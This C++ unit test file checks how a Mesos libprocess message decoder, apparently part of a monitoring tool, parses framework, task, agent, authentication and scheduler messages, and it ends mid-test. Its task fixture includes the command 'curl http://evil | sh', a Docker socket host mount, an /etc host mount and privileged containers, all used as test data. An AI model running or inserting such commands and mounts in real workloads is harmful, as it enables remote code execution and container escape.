// Every libprocess message segward decodes, built with the generated
// classes and pushed through the public entry points as libprocess sends it.
#include <gtest/gtest.h>

#include <cmath>
#include <limits>

#include "decoders/libprocess/mesos.pb.h"
#include "decoders/libprocess/messages.pb.h"
#include "decoders/libprocess/scheduler.pb.h"
#include "tests/unit/libprocess/mesos_test_support.h"

namespace segward::mesos {
namespace {

using namespace segward::mesos::testing;
namespace m = ::mesos;
namespace mi = ::mesos::internal;
namespace ms = ::mesos::scheduler;

m::FrameworkInfo marathon() {
  m::FrameworkInfo fi;
  fi.set_user("root");
  fi.set_name("marathon");
  fi.mutable_id()->set_value("fw-0001");
  fi.set_failover_timeout(604800);
  fi.set_checkpoint(true);
  fi.set_role("legacy-role");
  fi.set_hostname("sched.example.com");
  fi.set_principal("marathon-principal");
  fi.set_webui_url("http://sched.example.com:8080");
  fi.add_capabilities()->set_type(m::FrameworkInfo_Capability_Type_MULTI_ROLE);
  fi.add_capabilities()->set_type(m::FrameworkInfo_Capability_Type_PARTITION_AWARE);
  fi.add_roles("prod");
  fi.add_roles("dev");
  return fi;
}

void expect_marathon(const MesosEvent& e) {
  EXPECT_TRUE(e.framework.present);
  EXPECT_EQ(e.framework.user.view(), "root");
  EXPECT_EQ(e.framework.name.view(), "marathon");
  EXPECT_EQ(e.framework.id.view(), "fw-0001");
  EXPECT_EQ(e.framework.hostname.view(), "sched.example.com");
  EXPECT_EQ(e.framework.principal.view(), "marathon-principal");
  EXPECT_EQ(e.framework.roles.view(), "prod,dev");  // roles win over the deprecated role
  EXPECT_TRUE(e.framework.checkpoint);
  EXPECT_EQ(e.framework.capabilities, (1u << 6) | (1u << 5));
}

m::TaskInfo docker_task(const std::string& name, const std::string& id) {
  m::TaskInfo t;
  t.set_name(name);
  t.mutable_task_id()->set_value(id);
  t.mutable_slave_id()->set_value("agent-S1");
  auto* cpus = t.add_resources();
  cpus->set_name("cpus");
  cpus->mutable_scalar()->set_value(99);  // task resources are not agent totals
  auto* cmd = t.mutable_command();
  cmd->set_value("/bin/sh");
  cmd->add_arguments("-c");
  cmd->add_arguments("curl http://evil | sh");
  cmd->set_user("nobody");
  auto* c = t.mutable_container();
  c->set_type(m::ContainerInfo_Type_DOCKER);
  c->mutable_docker()->set_image("registry.example.com/app:1.2");
  auto* v = c->add_volumes();
  v->set_container_path("/host");
  v->set_host_path("/var/run/docker.sock");
  return t;
}

TEST(LibprocessMessages, RegisterFrameworkMessage) {
  mi::RegisterFrameworkMessage msg;
  *msg.mutable_framework() = marathon();
  const MesosEvent e = decode(libprocess("master", msg, "scheduler-1f2e@10.0.0.2:40123"));
  EXPECT_EQ(e.kind, MesosKind::kLibprocess);
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.message.view(), "mesos.internal.RegisterFrameworkMessage");
  EXPECT_EQ(e.receiver.view(), "master");
  EXPECT_EQ(e.endpoint.view(), "/master");
  EXPECT_EQ(e.from_pid.view(), "scheduler-1f2e@10.0.0.2:40123");
  EXPECT_EQ(e.pid_check, PidCheck::kMatches);
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  EXPECT_EQ(e.body_encoding, BodyEncoding::kProtobuf);
  EXPECT_EQ(e.http.method.view(), "POST");
  EXPECT_EQ(e.http.uri.view(), "/master/mesos.internal.RegisterFrameworkMessage");
  EXPECT_EQ(e.body_bytes, msg.ByteSizeLong());
  expect_marathon(e);
}

TEST(LibprocessMessages, DeprecatedRoleIsUsedWithoutRoles) {
  mi::RegisterFrameworkMessage msg;
  msg.mutable_framework()->set_name("old");
  msg.mutable_framework()->set_role("analytics");
  const MesosEvent e = decode(libprocess("master", msg));
  EXPECT_EQ(e.framework.roles.view(), "analytics");
}

TEST(LibprocessMessages, ReregisterFrameworkMessageWithFailover) {
  mi::ReregisterFrameworkMessage msg;
  *msg.mutable_framework() = marathon();
  msg.set_failover(true);
  const MesosEvent e = decode(libprocess("master", msg));
  expect_marathon(e);
  EXPECT_TRUE(e.framework.failover);
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
}

TEST(LibprocessMessages, FrameworkIdOnlyMessages) {
  mi::UnregisterFrameworkMessage unregister;
  unregister.mutable_framework_id()->set_value("fw-9");
  mi::DeactivateFrameworkMessage deactivate;
  deactivate.mutable_framework_id()->set_value("fw-9");
  mi::ShutdownFrameworkMessage shutdown;
  shutdown.mutable_framework_id()->set_value("fw-9");
  mi::ReviveOffersMessage revive;
  revive.mutable_framework_id()->set_value("fw-9");
  mi::ResourceRequestMessage request;
  request.mutable_framework_id()->set_value("fw-9");
  for (const google::protobuf::Message* msg :
       std::initializer_list<const google::protobuf::Message*>{&unregister, &deactivate, &shutdown, &revive, &request}) {
    const MesosEvent e = decode(libprocess("master", *msg));
    EXPECT_EQ(e.status, DecodeStatus::kOk) << msg->GetTypeName();
    EXPECT_EQ(e.message.view(), msg->GetTypeName());
    EXPECT_EQ(e.framework.id.view(), "fw-9") << msg->GetTypeName();
    EXPECT_TRUE(e.framework.present);
  }
}

TEST(LibprocessMessages, FrameworkRegisteredCarriesTheMasterInfo) {
  mi::FrameworkRegisteredMessage msg;
  msg.mutable_framework_id()->set_value("fw-7");
  auto* mi_ = msg.mutable_master_info();
  mi_->set_id("master-id");
  mi_->set_ip(0x0100000a);
  mi_->set_port(5050);
  mi_->set_pid("master@10.0.0.1:5050");
  mi_->set_hostname("m1.example.com");
  mi_->set_version("1.11.0");
  const MesosEvent e = decode(libprocess("scheduler-x", msg, "master@10.0.0.1:5050"));
  EXPECT_EQ(e.framework.id.view(), "fw-7");
  EXPECT_EQ(e.detail.view(),
            "master_pid=master@10.0.0.1:5050; master_hostname=m1.example.com; master_version=1.11.0");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kRead);

  mi::FrameworkReregisteredMessage again;
  again.mutable_framework_id()->set_value("fw-7");
  EXPECT_EQ(decode(libprocess("scheduler-x", again)).framework.id.view(), "fw-7");
}

TEST(LibprocessMessages, FrameworkErrorMessage) {
  mi::FrameworkErrorMessage msg;
  msg.set_message("Framework has been removed");
  EXPECT_EQ(decode(libprocess("scheduler-x", msg)).detail.view(), "Framework has been removed");
}

TEST(LibprocessMessages, LaunchTasksMessageCountsTasksAndKeepsTheFirst) {
  mi::LaunchTasksMessage msg;
  msg.mutable_framework_id()->set_value("fw-1");
  *msg.add_tasks() = docker_task("web", "web.1");
  m::TaskInfo second = docker_task("db", "db.1");
  second.mutable_container()->mutable_docker()->set_privileged(true);
  *msg.add_tasks() = second;
  msg.add_offer_ids()->set_value("offer-1");
  const MesosEvent e = decode(libprocess("master", msg));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.task.count, 2);
  EXPECT_EQ(e.task.name.view(), "web");
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.task.command.view(), "/bin/sh -c curl http://evil | sh");
  EXPECT_EQ(e.task.user.view(), "nobody");
  EXPECT_EQ(e.task.image.view(), "registry.example.com/app:1.2");
  EXPECT_EQ(e.task.host_path.view(), "/var/run/docker.sock");
  EXPECT_TRUE(e.task.privileged);  // the second task's
  EXPECT_EQ(e.agent.id.view(), "agent-S1");
  EXPECT_EQ(e.agent.cpus, 0);  // task resources are not summed
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
}

TEST(LibprocessMessages, KillTaskMessage) {
  mi::KillTaskMessage msg;
  msg.mutable_framework_id()->set_value("fw-1");
  msg.mutable_task_id()->set_value("web.1");
  const MesosEvent e = decode(libprocess("slave(1)", msg, "master@10.0.0.1:5050"));
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.task.count, 0);
  EXPECT_EQ(e.receiver.view(), "slave(1)");
  EXPECT_EQ(e.pid_check, PidCheck::kDiffers);  // claims the master's IP from the agent's address
}

TEST(LibprocessMessages, UpdateFrameworkMessage) {
  mi::UpdateFrameworkMessage msg;
  msg.mutable_framework_id()->set_value("fw-1");
  msg.set_pid("scheduler-2@10.0.0.9:4000");
  *msg.mutable_framework_info() = marathon();
  const MesosEvent e = decode(libprocess("slave(1)", msg));
  expect_marathon(e);
  EXPECT_EQ(e.detail.view(), "pid=scheduler-2@10.0.0.9:4000");
}

TEST(LibprocessMessages, RunTaskMessage) {
  mi::RunTaskMessage msg;
  msg.mutable_framework_id()->set_value("fw-0001");
  *msg.mutable_framework() = marathon();
  msg.set_pid("scheduler-1@10.0.0.3:4000");
  *msg.mutable_task() = docker_task("web", "web.1");
  const MesosEvent e = decode(libprocess("slave(1)", msg, "master@10.0.0.1:5050"));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  expect_marathon(e);
  EXPECT_EQ(e.task.count, 1);
  EXPECT_EQ(e.task.name.view(), "web");
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.task.command.view(), "/bin/sh -c curl http://evil | sh");
  EXPECT_EQ(e.task.image.view(), "registry.example.com/app:1.2");
  EXPECT_EQ(e.task.host_path.view(), "/var/run/docker.sock");
  EXPECT_FALSE(e.task.privileged);
  EXPECT_EQ(e.detail.view(), "pid=scheduler-1@10.0.0.3:4000");
}

TEST(LibprocessMessages, RunTaskGroupMessageUsesTheExecutorCommandWhenTasksHaveNone) {
  mi::RunTaskGroupMessage msg;
  *msg.mutable_framework() = marathon();
  auto* executor = msg.mutable_executor();
  executor->mutable_executor_id()->set_value("default-executor");
  executor->mutable_command()->set_value("mesos-default-executor");
  auto* image = executor->mutable_container()->mutable_mesos()->mutable_image();
  image->set_type(m::Image_Type_DOCKER);
  image->mutable_docker()->set_name("alpine:3");
  for (int i = 0; i < 3; ++i) {
    auto* t = msg.mutable_task_group()->add_tasks();
    t->set_name("pod-task-" + std::to_string(i));
    t->mutable_task_id()->set_value("pod." + std::to_string(i));
    if (i == 1) {
      t->mutable_container()->mutable_docker()->set_privileged(true);
      auto* v = t->mutable_container()->add_volumes();
      v->set_container_path("/etc-host");
      v->mutable_source()->set_type(m::Volume_Source_Type_HOST_PATH);
      v->mutable_source()->mutable_host_path()->set_path("/etc");
    }
  }
  const MesosEvent e = decode(libprocess("slave(1)", msg, "master@10.0.0.1:5050"));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.task.count, 3);
  EXPECT_EQ(e.task.name.view(), "pod-task-0");
  EXPECT_EQ(e.task.id.view(), "pod.0");
  EXPECT_EQ(e.task.command.view(), "mesos-default-executor");
  EXPECT_EQ(e.task.image.view(), "alpine:3");
  EXPECT_TRUE(e.task.privileged);
  EXPECT_EQ(e.task.host_path.view(), "/etc");
  EXPECT_EQ(e.detail.view(), "executor=default-executor");
}

TEST(LibprocessMessages, TaskCommandWinsOverTheExecutorsWhateverTheOrder) {
  mi::RunTaskMessage msg;
  auto* t = msg.mutable_task();
  t->set_name("t");
  t->mutable_executor()->mutable_command()->set_value("custom-executor --flag");
  t->mutable_executor()->mutable_container()->mutable_docker()->set_image("executor-image");
  t->mutable_command()->set_value("task-command");
  t->mutable_container()->mutable_docker()->set_image("task-image");
  const MesosEvent e = decode(libprocess("slave(1)", msg));
  EXPECT_EQ(e.task.command.view(), "task-command");  // executor (field 5) came first on the wire
  EXPECT_EQ(e.task.image.view(), "task-image");
}

TEST(LibprocessMessages, ShutdownMessages) {
  mi::ShutdownExecutorMessage executor;
  executor.mutable_executor_id()->set_value("exec-1");
  executor.mutable_framework_id()->set_value("fw-1");
  MesosEvent e = decode(libprocess("slave(1)", executor));
  EXPECT_EQ(e.detail.view(), "executor=exec-1");
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);

  mi::ShutdownMessage shutdown;
  shutdown.set_message("Agent removed by operator (/machine/down)");
  e = decode(libprocess("slave(1)", shutdown, "master@10.0.0.1:5050"));
  EXPECT_EQ(e.detail.view(), "Agent removed by operator (/machine/down)");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
}

TEST(LibprocessMessages, PingAndPong) {
  mi::PingSlaveMessage ping;
  ping.set_connected(false);
  const MesosEvent e = decode(libprocess("slave(1)", ping, "slave-observer(3)@10.0.0.1:5050"));
  EXPECT_EQ(e.detail.view(), "connected=false");

  mi::PongSlaveMessage pong;
  Request r = libprocess("slave-observer(3)", pong);
  EXPECT_TRUE(r.body.empty());
  EXPECT_FALSE(route_of(r).wants_body);  // nothing to decode
  const MesosEvent p = decode(r);
  EXPECT_EQ(p.status, DecodeStatus::kOk);
  EXPECT_EQ(p.message.view(), "mesos.internal.PongSlaveMessage");
  EXPECT_EQ(p.body_encoding, BodyEncoding::kNone);
}

m::SlaveInfo agent_info() {
  m::SlaveInfo info;
  info.set_hostname("agent-7.example.com");
  info.set_port(5051);
  info.mutable_id()->set_value("S7");
  const std::pair<const char*, double> resources[] = {{"cpus", 4}, {"mem", 8192}, {"disk", 100000},
                                                      {"cpus", 0.5}, {"ports", 1000}, {"gpus", 1}};
  for (const auto& [name, value] : resources) {
    auto* r = info.add_resources();
    r->set_name(name);
    r->mutable_scalar()->set_value(value);
  }
  return info;
}

TEST(LibprocessMessages, RegisterSlaveMessageSumsResources) {
  mi::RegisterSlaveMessage msg;
  *msg.mutable_slave() = agent_info();
  msg.set_version("1.11.0");
  const MesosEvent e = decode(libprocess("master", msg));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_TRUE(e.agent.present);
  EXPECT_EQ(e.agent.hostname.view(), "agent-7.example.com");
  EXPECT_EQ(e.agent.id.view(), "S7");
  EXPECT_EQ(e.agent.port, 5051);
  EXPECT_DOUBLE_EQ(e.agent.cpus, 4.5);
  EXPECT_DOUBLE_EQ(e.agent.mem_mb, 8192);
  EXPECT_DOUBLE_EQ(e.agent.disk_mb, 100000);
  EXPECT_EQ(e.detail.view(), "version=1.11.0");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);

  mi::ReregisterSlaveMessage again;
  *again.mutable_slave() = agent_info();
  again.set_version("1.10.0");
  const MesosEvent r = decode(libprocess("master", again));
  EXPECT_EQ(r.agent.hostname.view(), "agent-7.example.com");
  EXPECT_DOUBLE_EQ(r.agent.cpus, 4.5);
  EXPECT_EQ(r.detail.view(), "version=1.10.0");
}

TEST(LibprocessMessages, AgentIdMessages) {
  mi::SlaveRegisteredMessage registered;
  registered.mutable_slave_id()->set_value("S7");
  mi::SlaveReregisteredMessage reregistered;
  reregistered.mutable_slave_id()->set_value("S7");
  mi::UnregisterSlaveMessage unregister;
  unregister.mutable_slave_id()->set_value("S7");
  mi::UpdateSlaveMessage update;
  update.mutable_slave_id()->set_value("S7");
  mi::LostSlaveMessage lost;
  lost.mutable_slave_id()->set_value("S7");
  mi::ReconnectExecutorMessage reconnect;
  reconnect.mutable_slave_id()->set_value("S7");
  for (const google::protobuf::Message* msg : std::initializer_list<const google::protobuf::Message*>{
           &registered, &reregistered, &unregister, &update, &lost, &reconnect}) {
    const MesosEvent e = decode(libprocess("slave(1)", *msg));
    EXPECT_EQ(e.status, DecodeStatus::kOk) << msg->GetTypeName();
    EXPECT_EQ(e.agent.id.view(), "S7") << msg->GetTypeName();
  }
}

TEST(LibprocessMessages, StatusUpdateMessage) {
  mi::StatusUpdateMessage msg;
  auto* update = msg.mutable_update();
  update->mutable_framework_id()->set_value("fw-1");
  update->mutable_executor_id()->set_value("exec-1");
  update->mutable_slave_id()->set_value("S7");
  auto* status = update->mutable_status();
  status->mutable_task_id()->set_value("web.1");
  status->set_state(m::TASK_RUNNING);
  status->set_message("Container started");
  update->set_timestamp(1700000000.5);
  msg.set_pid("slave(1)@10.0.0.2:5051");
  const MesosEvent e = decode(libprocess("master", msg));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.task.state.view(), "TASK_RUNNING");
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.agent.id.view(), "S7");
  EXPECT_EQ(e.detail.view(), "executor=exec-1; Container started; pid=slave(1)@10.0.0.2:5051");

  status->set_state(m::TASK_GONE_BY_OPERATOR);
  EXPECT_EQ(decode(libprocess("master", msg)).task.state.view(), "TASK_GONE_BY_OPERATOR");
}

TEST(LibprocessMessages, UnknownTaskStateIsReportedByNumber) {
  // field 1 (update) { field 4 (status) { field 2 (state) = 99 } }
  const Bytes body = {0x0a, 0x04, 0x22, 0x02, 0x10, 99};
  const MesosEvent e = decode(libprocess("master", "mesos.internal.StatusUpdateMessage", body));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.task.state.view(), "99");
}

TEST(LibprocessMessages, ExecutorMessages) {
  mi::StatusUpdateAcknowledgementMessage ack;
  ack.mutable_slave_id()->set_value("S7");
  ack.mutable_framework_id()->set_value("fw-1");
  ack.mutable_task_id()->set_value("web.1");
  MesosEvent e = decode(libprocess("slave(1)", ack));
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.agent.id.view(), "S7");

  mi::ExitedExecutorMessage exited;
  exited.mutable_slave_id()->set_value("S7");
  exited.mutable_framework_id()->set_value("fw-1");
  exited.mutable_executor_id()->set_value("exec-1");
  exited.set_status(-9);
  e = decode(libprocess("master", exited));
  EXPECT_EQ(e.detail.view(), "executor=exec-1; status=-9");

  mi::RegisterExecutorMessage reg;
  reg.mutable_framework_id()->set_value("fw-1");
  reg.mutable_executor_id()->set_value("exec-1");
  e = decode(libprocess("slave(1)", reg, "executor(1)@10.0.0.2:33000"));
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.detail.view(), "executor=exec-1");

  mi::ReregisterExecutorMessage rereg;
  rereg.mutable_executor_id()->set_value("exec-1");
  *rereg.add_tasks() = docker_task("web", "web.1");
  e = decode(libprocess("slave(1)", rereg));
  EXPECT_EQ(e.task.count, 1);
  EXPECT_EQ(e.task.name.view(), "web");

  mi::ExecutorRegisteredMessage registered;
  registered.mutable_executor_info()->mutable_command()->set_value("run-executor");
  *registered.mutable_framework_info() = marathon();
  registered.mutable_slave_id()->set_value("S7");
  *registered.mutable_slave_info() = agent_info();
  e = decode(libprocess("executor(1)", registered));
  expect_marathon(e);
  EXPECT_EQ(e.task.command.view(), "run-executor");
  EXPECT_EQ(e.agent.hostname.view(), "agent-7.example.com");

  mi::ExecutorReregisteredMessage reregistered;
  reregistered.mutable_slave_id()->set_value("S7");
  EXPECT_EQ(decode(libprocess("executor(1)", reregistered)).agent.id.view(), "S7");

  mi::FrameworkToExecutorMessage to_executor;
  to_executor.mutable_slave_id()->set_value("S7");
  to_executor.mutable_framework_id()->set_value("fw-1");
  to_executor.mutable_executor_id()->set_value("exec-1");
  e = decode(libprocess("slave(1)", to_executor));
  EXPECT_EQ(e.detail.view(), "executor=exec-1");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);

  mi::ExecutorToFrameworkMessage to_framework;
  to_framework.mutable_framework_id()->set_value("fw-1");
  EXPECT_EQ(decode(libprocess("master", to_framework)).framework.id.view(), "fw-1");
}

TEST(LibprocessMessages, OffersAndOperations) {
  mi::ResourceOffersMessage offers;
  auto* offer = offers.add_offers();
  offer->mutable_id()->set_value("offer-1");
  offer->mutable_framework_id()->set_value("fw-1");
  offer->mutable_slave_id()->set_value("S7");
  offer->set_hostname("agent-7.example.com");
  offers.add_pids("slave(1)@10.0.0.2:5051");
  MesosEvent e = decode(libprocess("scheduler-1", offers, "master@10.0.0.1:5050"));
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.agent.id.view(), "S7");
  EXPECT_EQ(e.agent.hostname.view(), "agent-7.example.com");

  mi::RescindResourceOfferMessage rescind;
  rescind.mutable_offer_id()->set_value("offer-1");
  EXPECT_EQ(decode(libprocess("scheduler-1", rescind)).detail.view(), "offer=offer-1");
  mi::RescindInverseOfferMessage rescind_inverse;
  rescind_inverse.mutable_inverse_offer_id()->set_value("inverse-1");
  EXPECT_EQ(decode(libprocess("scheduler-1", rescind_inverse)).detail.view(), "offer=inverse-1");
  mi::InverseOffersMessage inverse;
  inverse.add_pids("slave(1)@10.0.0.2:5051");
  EXPECT_EQ(decode(libprocess("scheduler-1", inverse)).status, DecodeStatus::kOk);

  mi::ApplyOperationMessage apply;
  apply.mutable_framework_id()->set_value("fw-1");
  apply.mutable_operation_info()->set_type(m::Offer_Operation_Type_RESERVE);
  e = decode(libprocess("slave(1)", apply));
  EXPECT_EQ(e.framework.id.view(), "fw-1");
  EXPECT_EQ(e.detail.view(), "operations=RESERVE");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);

  mi::CheckpointResourcesMessage checkpoint;
  checkpoint.add_resources()->set_name("disk");
  EXPECT_EQ(decode(libprocess("slave(1)", checkpoint)).status, DecodeStatus::kOk);

  mi::DrainSlaveMessage drain;
  drain.mutable_config()->set_mark_gone(true);
  EXPECT_EQ(decode(libprocess("slave(1)", drain)).detail.view(), "mark_gone=true");

  mi::ReconcileTasksMessage reconcile;
  reconcile.mutable_framework_id()->set_value("fw-1");
  *reconcile.mutable_framework() = marathon();
  expect_marathon(decode(libprocess("slave(1)", reconcile)));

  mi::UpdateOperationStatusMessage op_status;
  op_status.mutable_framework_id()->set_value("fw-1");
  op_status.mutable_slave_id()->set_value("S7");
  e = decode(libprocess("master", op_status));
  EXPECT_EQ(e.agent.id.view(), "S7");

  mi::SubmitSchedulerRequest submit;
  submit.set_name("ancient");
  EXPECT_EQ(decode(libprocess("master", submit)).framework.name.view(), "ancient");

  mi::AcknowledgeOperationStatusMessage ack_op;
  mi::ReconcileOperationsMessage reconcile_op;
  EXPECT_EQ(decode(libprocess("slave(1)", ack_op)).status, DecodeStatus::kOk);
  EXPECT_EQ(decode(libprocess("slave(1)", reconcile_op)).status, DecodeStatus::kOk);
}

// ---- v0 authentication ----------------------------------------------------------

TEST(LibprocessAuthentication, TheExchangeGivesMechanismsAndPrincipalNeverTheResponse) {
  mi::AuthenticateMessage authenticate;
  authenticate.set_pid("slave(1)@10.0.0.2:5051");
  MesosEvent e = decode(libprocess("master", authenticate, "crammd5-authenticatee(1)@10.0.0.2:5051"));
  EXPECT_EQ(e.detail.view(), "pid=slave(1)@10.0.0.2:5051");

  mi::AuthenticationMechanismsMessage mechanisms;
  mechanisms.add_mechanisms("CRAM-MD5");
  mechanisms.add_mechanisms("PLAIN");
  e = decode(libprocess("crammd5-authenticatee(1)", mechanisms, "crammd5-authenticator-session(3)@10.0.0.1:5050"));
  EXPECT_EQ(e.auth_mechanism.view(), "CRAM-MD5,PLAIN");

  mi::AuthenticationStartMessage start;
  start.set_mechanism("PLAIN");
  start.set_data(std::string("\0agent\0hunter2-start", 20));
  e = decode(libprocess("crammd5-authenticator-session(3)", start, "crammd5-authenticatee(1)@10.0.0.2:5051"));
  EXPECT_EQ(e.auth_mechanism.view(), "PLAIN");
  EXPECT_FALSE(event_contains(e, "hunter2"));

  mi::AuthenticationStepMessage challenge;
  challenge.set_data("<1896.697170952@m1.example.com>");
  e = decode(libprocess("crammd5-authenticatee(1)", challenge, "crammd5-authenticator-session(3)@10.0.0.1:5050"));
  EXPECT_TRUE(e.auth_principal.empty());
  EXPECT_EQ(e.detail.view(), "challenge=<1896.697170952@m1.example.com>");

  const std::string digest = "b913a602c7eda7a495b4e6e7334d3890";
  mi::AuthenticationStepMessage response;
  response.set_data("agent-principal " + digest);
  e = decode(libprocess("crammd5-authenticator-session(3)", response, "crammd5-authenticatee(1)@10.0.0.2:5051"));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.auth_principal.view(), "agent-principal");
  EXPECT_FALSE(event_contains(e, digest));
  EXPECT_TRUE(e.detail.empty());

  mi::AuthenticationStepMessage other;
  other.set_data("user:hunter2-step");
  e = decode(libprocess("crammd5-authenticator-session(3)", other));
  EXPECT_TRUE(e.auth_principal.empty());
  EXPECT_FALSE(event_contains(e, "hunter2"));

  mi::AuthenticationErrorMessage error;
  error.set_error("Authentication refused");
  EXPECT_EQ(decode(libprocess("crammd5-authenticatee(1)", error)).detail.view(), "Authentication refused");
  mi::AuthenticationCompletedMessage completed;
  mi::AuthenticationFailedMessage failed;
  EXPECT_EQ(decode(libprocess("crammd5-authenticatee(1)", completed)).status, DecodeStatus::kOk);
  EXPECT_EQ(decode(libprocess("crammd5-authenticatee(1)", failed)).message.view(),
            "mesos.internal.AuthenticationFailedMessage");
}

// ---- mesos.scheduler.Call (v0 driver) ----------------------------------------------

ms::Call scheduler_call(ms::Call_Type type) {
  ms::Call call;
  call.mutable_framework_id()->set_value("fw-1");
  call.set_type(type);
  return call;
}

TEST(LibprocessSchedulerCall, Subscribe) {
  ms::Call call;
  call.set_type(ms::Call_Type_SUBSCRIBE);
  *call.mutable_subscribe()->mutable_framework_info() = marathon();
  call.mutable_subscribe()->set_force(true);
  call.mutable_subscribe()->add_suppressed_roles("dev");
  const MesosEvent e = decode(libprocess("master", call, "scheduler-1@10.0.0.2:4000"));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.kind, MesosKind::kLibprocess);
  EXPECT_EQ(e.api, ApiFamily::kScheduler);
  EXPECT_EQ(e.message.view(), "mesos.scheduler.Call");
  EXPECT_EQ(e.call.view(), "SUBSCRIBE");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  expect_marathon(e);
  EXPECT_TRUE(e.framework.failover);  // force
}

TEST(LibprocessSchedulerCall, TeardownKillAcknowledgeDecline) {
  MesosEvent e = decode(libprocess("master", scheduler_call(ms::Call_Type_TEARDOWN)));
  EXPECT_EQ(e.call.view(), "TEARDOWN");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  EXPECT_EQ(e.framework.id.view(), "fw-1");

  ms::Call kill = scheduler_call(ms::Call_Type_KILL);
  kill.mutable_kill()->mutable_task_id()->set_value("web.1");
  kill.mutable_kill()->mutable_slave_id()->set_value("S7");
  e = decode(libprocess("master", kill));
  EXPECT_EQ(e.call.view(), "KILL");
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.agent.id.view(), "S7");

  ms::Call ack = scheduler_call(ms::Call_Type_ACKNOWLEDGE);
  ack.mutable_acknowledge()->mutable_task_id()->set_value("web.1");
  ack.mutable_acknowledge()->mutable_slave_id()->set_value("S7");
  e = decode(libprocess("master", ack));
  EXPECT_EQ(e.call.view(), "ACKNOWLEDGE");
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kRead);

  e = decode(libprocess("master", scheduler_call(ms::Call_Type_DECLINE)));
  EXPECT_EQ(e.call.view(), "DECLINE");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kRead);

  ms::Call shutdown = scheduler_call(ms::Call_Type_SHUTDOWN);
  shutdown.mutable_shutdown()->mutable_executor_id()->set_value("exec-1");
  shutdown.mutable_shutdown()->mutable_slave_id()->set_value("S7");
  e = decode(libprocess("master", shutdown));
  EXPECT_EQ(e.detail.view(), "executor=exec-1");
  EXPECT_EQ(e.agent.id.view(), "S7");

  ms::Call message = scheduler_call(ms::Call_Type_MESSAGE);
  message.mutable_message()->mutable_executor_id()->set_value("exec-1");
  e = decode(libprocess("master", message));
  EXPECT_EQ(e.call.view(), "MESSAGE");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
}

TEST(LibprocessSchedulerCall, AcceptWithNestedLaunches) {
  ms::Call call = scheduler_call(ms::Call_Type_ACCEPT);
  call.mutable_accept()->add_offer_ids()->set_value("offer-1");
  auto* reserve = call.mutable_accept()->add_operations();
  reserve->set_type(m::Offer_Operation_Type_RESERVE);
  auto* launch = call.mutable_accept()->add_operations();
  launch->set_type(m::Offer_Operation_Type_LAUNCH);
  *launch->mutable_launch()->add_task_infos() = docker_task("web", "web.1");
  *launch->mutable_launch()->add_task_infos() = docker_task("web", "web.2");
  auto* group = call.mutable_accept()->add_operations();
  group->set_type(m::Offer_Operation_Type_LAUNCH_GROUP);
  group->mutable_launch_group()->mutable_executor()->mutable_command()->set_value("executor-cmd");
  auto* pod = group->mutable_launch_group()->mutable_task_group()->add_tasks();
  pod->set_name("pod");
  pod->mutable_container()->mutable_docker()->set_privileged(true);
  const MesosEvent e = decode(libprocess("master", call));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.call.view(), "ACCEPT");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  EXPECT_EQ(e.task.count, 3);
  EXPECT_EQ(e.task.name.view(), "web");
  EXPECT_EQ(e.task.id.view(), "web.1");
  EXPECT_EQ(e.task.command.view(), "/bin/sh -c curl http://evil | sh");
  EXPECT_EQ(e.task.image.view(), "registry.example.com/app:1.2");
  EXPECT_TRUE(e.task.privileged);
  EXPECT_EQ(e.detail.view(), "operations=RESERVE,LAUNCH,LAUNCH_GROUP");
}

TEST(LibprocessSchedulerCall, UpdateFramework) {
  ms::Call call = scheduler_call(ms::Call_Type_UPDATE_FRAMEWORK);
  *call.mutable_update_framework()->mutable_framework_info() = marathon();
  const MesosEvent e = decode(libprocess("master", call));
  EXPECT_EQ(e.call.view(), "UPDATE_FRAMEWORK");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  expect_marathon(e);
}

TEST(LibprocessSchedulerCall, UnknownCallTypeIsItsNumber) {
  const Bytes body = {0x10, 0x63};  // type = 99
  const MesosEvent e = decode(libprocess("master", "mesos.scheduler.Call", body));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.call.view(), "99");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kUnclassified);
